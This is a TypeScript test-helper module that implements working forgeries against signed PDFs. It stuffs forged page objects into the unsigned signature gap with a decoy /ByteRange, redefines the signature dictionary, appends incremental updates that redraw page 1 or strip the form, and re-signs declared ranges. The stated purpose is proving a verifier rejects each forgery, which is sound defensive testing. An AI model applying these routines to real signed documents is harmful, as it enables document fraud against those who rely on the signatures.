/**
 * An attacker's tools against a signed PDF, working on its bytes as an attacker would: find the
 * signature value by searching the text, put new objects that redraw the first page into the file
 * (in the unsigned gap, or as an incremental update), rewrite a /ByteRange and sign the declared
 * ranges again. Used by the tests that show `verify` refuses each forgery.
 */
import { P12Signer } from '@signpdf/signer-p12';
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef } from '@cantoo/pdf-lib';

/** What the attacker's page shows instead of the signed text. */
export const FORGED_TEXT = 'FORGED BY MALLORY';

export interface SignedLayout {
  /** Offsets of the first /ByteRange array's `[` and `]`. */
  readonly rangeOpen: number;
  readonly rangeClose: number;
  readonly range: readonly [number, number, number, number];
}

/** The attacker's way of finding the signature: the first /ByteRange text in the file. */
export function signedLayout(bytes: Buffer): SignedLayout {
  const match = /\/ByteRange\s*(\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\])/.exec(bytes.toString('latin1'));
  if (match === null || match.index === undefined) throw new Error('no /ByteRange');
  const open = match.index + match[0].indexOf('[');
  return { rangeOpen: open, rangeClose: open + (match[1] as string).length - 1, range: [Number(match[2]), Number(match[3]), Number(match[4]), Number(match[5])] };
}

/** Rewrites the /ByteRange array in place, padded with spaces to its old length (offsets stay). */
export function writeByteRange(bytes: Buffer, layout: SignedLayout, range: readonly number[]): void {
  const width = layout.rangeClose - layout.rangeOpen + 1;
  const text = `[${range.join(' ')}`.padEnd(width - 1, ' ') + ']';
  if (text.length !== width) throw new Error('the new /ByteRange does not fit');
  bytes.write(text, layout.rangeOpen, 'latin1');
}

/**
 * Objects that redraw page 1 with the attacker's text: a Helvetica font, a content stream and the
 * page dictionary again under its own object number (a later definition wins). `firstNumber` is a
 * free object number for the two new objects.
 */
export async function forgedPageObjects(bytes: Buffer): Promise<{ text: string; firstNumber: number }> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const page = doc.getPage(0);
  const firstNumber = doc.context.largestObjectNumber + 1;
  const fontNumber = firstNumber;
  const contentNumber = firstNumber + 1;
  const content = `BT /MalloryFont 28 Tf 60 420 Td (${FORGED_TEXT}) Tj ET\n1 0 0 rg 40 380 520 4 re f\n`;
  const pageDict = page.node.clone(doc.context);
  pageDict.set(PDFName.of('Contents'), PDFRef.of(contentNumber));
  const resources = page.node.lookupMaybe(PDFName.of('Resources'), PDFDict)?.clone(doc.context) ?? doc.context.obj({});
  const fonts = resources.lookupMaybe(PDFName.of('Font'), PDFDict)?.clone(doc.context) ?? doc.context.obj({});
  fonts.set(PDFName.of('MalloryFont'), PDFRef.of(fontNumber));
  resources.set(PDFName.of('Font'), fonts);
  pageDict.set(PDFName.of('Resources'), resources);
  // Without the signature widget the viewer shows no signature box either.
  pageDict.set(PDFName.of('Annots'), PDFArray.withContext(doc.context));
  const text = [
    `${fontNumber} 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n`,
    `${contentNumber} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}endstream\nendobj\n`,
    `${page.ref.objectNumber} ${page.ref.generationNumber} obj\n${pageDict.toString()}\nendobj\n`,
  ].join('');
  return { text, firstNumber };
}

/** Inserts text at an offset. */
export function insertAt(bytes: Buffer, offset: number, text: string): Buffer {
  return Buffer.concat([bytes.subarray(0, offset), Buffer.from(text, 'latin1'), bytes.subarray(offset)]);
}

/** The signature dictionary's object number, found through pdf-lib. */
export async function signatureObjectNumber(bytes: Buffer): Promise<number> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const fields = doc.catalog.lookup(PDFName.of('AcroForm'), PDFDict).lookup(PDFName.of('Fields'), PDFArray);
  const widget = doc.context.lookup(fields.get(0), PDFDict);
  return (widget.get(PDFName.of('V')) as PDFRef).objectNumber;
}

/** Fixed-width numbers, so the text's length does not depend on the offsets it names. */
const n10 = (value: number): string => String(value).padStart(10, '0');

/**
 * The issue's forgery: the forged objects right after the /Contents hex string, with a later
 * /ByteRange text claiming the gap runs to their end (the old verify took the last /ByteRange in
 * the file). The signature dictionary is closed right after /Contents, so it still parses; the
 * rest of the signed dictionary becomes the dictionary holding the decoy /ByteRange.
 */
export async function stuffAfterContents(bytes: Buffer): Promise<Buffer> {
  const { range } = signedLayout(bytes);
  const forged = await forgedPageObjects(bytes);
  const insertion = (end: number): string => `>>\nendobj\n${forged.text}${forged.firstNumber + 2} 0 obj\n<< /ByteRange [0 ${n10(range[1])} ${n10(end)} ${n10(range[3])}]`;
  return insertAt(bytes, range[2], insertion(range[2] + insertion(0).length));
}

/**
 * The same, with the signature dictionary defined again after the forged objects so that the
 * PDF structure itself points at a /ByteRange whose gap holds them (a later definition wins).
 */
export async function stuffWithRedefinedSignature(bytes: Buffer): Promise<Buffer> {
  const { range } = signedLayout(bytes);
  const forged = await forgedPageObjects(bytes);
  const sigNumber = await signatureObjectNumber(bytes);
  const dict = (end: number): string =>
    `${sigNumber} 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 ${n10(range[1])} ${n10(end)} ${n10(range[3])}] /Contents <00> >>\nendobj\n`;
  const length = `\n${forged.text}${dict(0)}`.length;
  return insertAt(bytes, range[2], `\n${forged.text}${dict(range[2] + length)}`);
}

/**
 * The classic way: the forged objects appended as an incremental update with its own xref. With
 * `dropForm` the update also rewrites the catalog without its /AcroForm, so that nothing in the
 * structure leads to the signature any more (the file then looks unsigned).
 */
export async function appendIncrementalUpdate(bytes: Buffer, options: { dropForm?: boolean } = {}): Promise<Buffer> {
  const forged = await forgedPageObjects(bytes);
  const { firstNumber } = forged;
  let text = forged.text;
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  if (options.dropForm === true) {
    const catalog = doc.catalog.clone(doc.context);
    catalog.delete(PDFName.of('AcroForm'));
    const ref = doc.context.trailerInfo.Root as PDFRef;
    text += `${ref.objectNumber} ${ref.generationNumber} obj\n${catalog.toString()}\nendobj\n`;
  }
  const prev = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(bytes.toString('latin1'));
  if (prev === null) throw new Error('no startxref');
  let body = '\n';
  const offsets: [number, number][] = [];
  for (const object of text.split(/(?<=endobj\n)/)) {
    const number = Number(/^(\d+)/.exec(object)?.[1]);
    offsets.push([number, bytes.length + Buffer.byteLength(body, 'latin1')]);
    body += object;
  }
  const xrefAt = bytes.length + body.length;
  const entry = (offset: number): string => `${String(offset).padStart(10, '0')} 00000 n \n`;
  const sorted = offsets.sort((x, y) => x[0] - y[0]);
  let xref = 'xref\n0 1\n0000000000 65535 f \n';
  for (const [number, offset] of sorted) xref += `${number} 1\n${entry(offset)}`;
  const root = doc.context.trailerInfo.Root as PDFRef;
  const info = doc.context.trailerInfo.Info as PDFRef | undefined;
  const trailer = `trailer\n<< /Size ${firstNumber + 2} /Root ${root.toString()}${info ? ` /Info ${info.toString()}` : ''} /Prev ${prev[1]} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([bytes, Buffer.from(body + xref + trailer, 'latin1')]);
}

/**
 * Signs the ranges the file now declares again (an attacker holding some signing key, or a signer
 * crafting an ambiguous file), filling the gap with the new PKCS#7 and zero padding.
 */
export async function signDeclaredRanges(bytes: Buffer, p12: Buffer, password: string, gap: readonly [number, number]): Promise<Buffer> {
  const { range } = signedLayout(bytes);
  const [start, length, secondStart, secondLength] = range;
  const signed = Buffer.concat([bytes.subarray(start, start + length), bytes.subarray(secondStart, secondStart + secondLength)]);
  const der = await new P12Signer(p12, { passphrase: password }).sign(signed, new Date());
  const capacity = gap[1] - gap[0] - 2;
  const hex = der.toString('hex').toUpperCase().padEnd(capacity, '0');
  if (hex.length !== capacity) throw new Error('the signature does not fit');
  const out = Buffer.from(bytes);
  out.write(hex, gap[0] + 1, 'latin1');
  return out;
}

/** Signs bytes 0..gap[0] and gap[1]..end, as declared by a /ByteRange the caller wrote. */
export async function signGap(bytes: Buffer, p12: Buffer, password: string, gap: readonly [number, number]): Promise<Buffer> {
  const der = await new P12Signer(p12, { passphrase: password }).sign(Buffer.concat([bytes.subarray(0, gap[0]), bytes.subarray(gap[1])]), new Date());
  const out = Buffer.from(bytes);
  out.write(der.toString('hex').padEnd(gap[1] - gap[0] - 2, '0'), gap[0] + 1, 'latin1');
  return out;
}

/** Where the DER of the PKCS#7 ends inside the hex of the gap (in hex digits after `<`). */
export function derHexLength(bytes: Buffer, gapStart: number): number {
  const head = Buffer.from(bytes.subarray(gapStart + 1, gapStart + 13).toString('latin1'), 'hex');
  const first = head[1] ?? 0;
  if (first < 0x80) return (2 + first) * 2;
  const count = first & 0x7f;
  let length = 0;
  for (let i = 0; i < count; i += 1) length = length * 256 + (head[2 + i] ?? 0);
  return (2 + count + length) * 2;
}
